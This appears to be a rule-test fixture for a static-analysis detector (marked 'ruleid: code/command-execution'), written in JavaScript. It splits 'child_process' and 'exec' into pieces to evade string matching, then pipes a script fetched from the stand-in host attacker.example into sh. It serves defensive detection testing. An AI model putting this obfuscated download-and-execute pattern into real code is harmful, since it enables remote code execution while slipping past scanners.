// Module and method names split to dodge string matching.
const cp = require('child_' + 'process');
const run = 'ex' + 'ec';
const url = ['http:', '', 'attacker.example', 'i.sh'].join('/');

// ruleid: code/command-execution
cp[run]('curl -s ' + url + ' | sh', () => {});
